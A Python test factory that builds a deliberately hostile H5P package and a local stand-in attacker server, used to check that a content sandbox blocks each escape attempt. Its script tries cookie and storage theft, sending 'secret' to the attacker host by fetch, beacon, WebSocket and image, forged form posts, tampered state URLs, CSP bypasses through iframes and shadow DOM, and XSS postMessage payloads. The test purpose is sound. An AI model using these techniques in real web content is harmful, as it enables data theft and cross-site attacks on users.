"""A content type that tries what no content type may, and writes down how each try ended."""

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.factories.h5p.packages import library_files, package_bytes

NAME = "Evil.Tries 1.0"

# Every try says “reached …” by what it resolves to, or “refused …” by what it throws.
SCRIPT = r"""
(() => {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const loads = (element, place = document.body) =>
    new Promise((done, fail) => {
      element.onload = element.onloadeddata = () => done("loaded");
      element.onerror = () => fail(new Error("not loaded"));
      place.append(element);
      setTimeout(() => fail(new Error("never loaded")), 1500);
    });
  // What is heard from a document inside that runs a script of the package once more.
  const fromInside = async (start) => {
    const folder = H5PIntegration.libraryDirectories["Evil.Tries-1.0"];
    const own = `${H5PIntegration.urlLibraries}/${folder}/scripts/inner.js`;
    const heard = new Promise((done) => addEventListener("message", ({ data }) => {
      if (data?.inner) done(data.inner);
    }));
    start(`<script src="${own}"></` + "script>");
    const said = await Promise.race([heard, wait(1000)]);
    if (said === "made") return "made";
    throw new Error(said || "did not run");
  };
  const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const native = (owner, name) => Object.getOwnPropertyDescriptor(owner, name).get;

  const triesOf = ({ evil, site, player }) => ({
    "cookies": () => native(Document.prototype, "cookie").call(document),
    "cookies, as the core sees them": () => {
      if (document.cookie) return document.cookie;
      throw new Error("empty");
    },
    "storage of the site": () => {
      localStorage.setItem("evil", "was here");
      if (localStorage.getItem("secret")) return localStorage.getItem("secret");
      throw new Error("empty");
    },
    "database": () => new Promise((done, fail) => {
      const asked = indexedDB.open("evil");
      asked.onsuccess = done;
      asked.onerror = fail;
    }),
    "parent page": () => window.parent.document.body.innerHTML,
    "parent’s address": () => window.parent.location.href,
    "fetch elsewhere": () => fetch(`${evil}/fetch`),
    "fetch elsewhere, unseen": () => fetch(`${evil}/blind`, { mode: "no-cors" }),
    "fetch the site": () => fetch(`${site}/evil-fetch`, { credentials: "include" }),
    "fetch the site, unseen": () => fetch(`${site}/evil-blind`, { mode: "no-cors" }),
    "request elsewhere": () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = () => fail(new Error("not sent"));
      request.open("POST", `${evil}/xhr`);
      request.send("secret");
    }),
    "beacon": async () => {
      navigator.sendBeacon(`${evil}/beacon`, "secret");
      await wait(300);
      throw new Error("the other side tells");
    },
    "socket": () => new Promise((done, fail) => {
      const socket = new WebSocket(`${evil.replace("http", "ws")}/socket`);
      socket.onopen = done;
      socket.onerror = () => fail(new Error("not opened"));
    }),
    "events": () => new Promise((done, fail) => {
      const source = new EventSource(`${evil}/events`);
      source.onopen = done;
      source.onerror = () => fail(new Error("not opened"));
    }),
    "picture beacon": () => loads(make("img", { src: `${evil}/picture?secret` })),
    "picture of the site": () => loads(make("img", { src: `${site}/evil-picture` })),
    "style": () => loads(make("link", { rel: "stylesheet", href: `${evil}/style` }), document.head),
    "style inside": async () => {
      document.head.append(make("style", { textContent: `@import "${evil}/import";
        body { background: url("${evil}/background"); }` }));
      await wait(300);
      throw new Error("the other side tells");
    },
    "font": () => new FontFace("Evil", `url("${evil}/font")`).load(),
    "script": () => loads(make("script", { src: `${evil}/script` })),
    "script of the site": () => loads(make("script", { src: `${site}/evil-script` })),
    "script inside": () => {
      document.body.append(make("script", { textContent: "window.ranInside = 1" }));
      if (window.ranInside) return "ran";
      throw new Error("did not run");
    },
    "evaluated text": () => (0, eval)("1 + 1"),
    "film": () => loads(make("video", { src: `${evil}/film`, preload: "auto" })),
    "prefetched page": async () => {
      document.head.append(make("link", { rel: "prefetch", href: `${evil}/prefetch` }));
      await wait(300);
      throw new Error("the other side tells");
    },
    "frame elsewhere": async () => {
      document.body.append(make("iframe", { src: `${evil}/frame` }));
      await wait(300);
      throw new Error("the other side tells");
    },
    "object": () => loads(make("object", { data: `${evil}/object` })),
    "worker": () => new Promise((done, fail) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = done;
      worker.onerror = () => fail(new Error("not started"));
    }),
    "service worker": () => navigator.serviceWorker.register(`${player}/sw.js`),
    "connection past the policy": () => {
      new RTCPeerConnection();
      return "made";
    },
    "connection of an empty frame": () => {
      const frame = make("iframe", {});
      document.body.append(frame);
      return new frame.contentWindow.RTCPeerConnection();
    },
    "connection from a frame inside": () => fromInside((html) => {
      document.body.append(make("iframe", { srcdoc: html }));
    }),
    "connection from a frame in the shadow": () => fromInside((html) => {
      const host = make("div", {});
      document.body.append(host);
      host.attachShadow({ mode: "closed" }).append(make("iframe", { srcdoc: html }));
    }),
    "connection from a copied shadow": () => fromInside((html) => {
      const host = make("div", {});
      const root = host.attachShadow({ mode: "closed", clonable: true });
      root.append(make("iframe", { srcdoc: html }));
      document.body.append(host.cloneNode(true));
    }),
    "connection from markup": () => fromInside((html) => {
      const quoted = html.replaceAll('"', "&quot;");
      const frame = `<iframe srcdoc="${quoted}"></iframe>`;
      const shadow = `<div><template shadowrootmode="closed">${frame}</template></div>`;
      const host = make("div", {});
      document.body.append(host);
      host.insertAdjacentHTML("beforeend", frame);
      host.setHTMLUnsafe?.(shadow);
      host.append(...Document.parseHTMLUnsafe?.(shadow)?.body.children ?? []);
    }),
    "new window": () => window.open(`${evil}/window`) ?? Promise.reject(new Error("none")),
    "new window by a link": async () => {
      const link = make("a", { href: `${evil}/link`, target: "_blank" });
      document.body.append(link);
      link.addEventListener("click", (event) => event.stopPropagation());
      link.click();
      await wait(300);
      throw new Error("the other side tells");
    },
    "form": async () => {
      const form = make("form", { action: `${evil}/form`, method: "post" });
      document.body.append(form);
      form.submit();
      await wait(300);
      throw new Error("the other side tells");
    },
    "form to the site": async () => {
      const form = make("form", { action: `${site}/accounts/logout/`, method: "post" });
      document.body.append(form);
      form.submit();
      await wait(300);
      throw new Error("the other side tells");
    },
    "another person’s state": async () => {
      const answer = await fetch(`${player}/play/1/state/state/0/`);
      if (answer.ok) return answer.text();
      throw new Error(`status ${answer.status}`);
    },
    "another’s address, altered": async () => {
      const [head, ...rest] = location.pathname.split("/")[2].split(":");
      const values = atob(head.replaceAll("-", "+").replaceAll("_", "/"));
      const hers = values.replace(/,(\d+),(\d+),"/, (_, one, two) => `,${+one + 1},${two},"`);
      const altered = btoa(hers).replace(/=+$/, "");
      const answer = await fetch(`${player}/play/${[altered, ...rest].join(":")}/state/state/0/`);
      if (answer.ok) return answer.text();
      throw new Error(`status ${answer.status}`);
    },
    "page around it": async () => {
      window.top.location = `${evil}/top`;
      await wait(300);
      throw new Error("the other side tells");
    },
  });

  window.Evil = { Tries: function (params, contentId) {
    H5P.EventDispatcher.call(this);
    this.contentId = contentId;
    this.attach = async ($container) => {
      const list = document.createElement("ol");
      $container[0].append(list);
      window.parent.postMessage({ waymark: "size", height: 1e9 }, "*");
      window.parent.postMessage({ waymark: "link", address: "javascript:alert(1)" }, "*");
      window.parent.postMessage({ waymark: "<img src=x onerror=alert(1)>" }, "*");
      window.parent.postMessage(null, "*");
      for (const [name, tried] of Object.entries(triesOf(params))) {
        let outcome;
        try {
          outcome = `reached: ${String(await tried()).slice(0, 80)}`;
        } catch (problem) {
          outcome = `refused: ${problem.name ?? ""} ${problem.message ?? ""}`;
        }
        list.append(make("li", { textContent: `${name} | ${outcome}` }));
      }
      list.append(make("li", { textContent: "all tried" }));
      list.addEventListener("click", () => { location = `${params.evil}/self`; });
    };
  } };
  window.Evil.Tries.prototype = Object.create(H5P.EventDispatcher.prototype);
})();
"""
INNER = r"""
let said = "none";
try {
  new RTCPeerConnection({ iceServers: [] });
  said = "made";
} catch (problem) {
  said = String(problem);
}
window.top.frames[0].postMessage({ inner: said }, "*");
"""


def hostile_package(**addresses: str) -> bytes:
    """`addresses` reach it as its params, in texts that nobody cleans away."""
    semantics = [{"name": name, "type": "text", "label": name} for name in addresses]
    files = library_files(
        NAME, js=SCRIPT, semantics=semantics, more_files={"scripts/inner.js": INNER.encode()}
    )
    return package_bytes(NAME, addresses, libraries={NAME: files})


@contextmanager
def evil_host() -> Iterator[tuple[str, list[str]]]:
    """A server at an address of its own, and the list of what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815 - as the server looks for them

        def log_message(self, *_: Any) -> None:
            pass

    server: socketserver.BaseServer = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
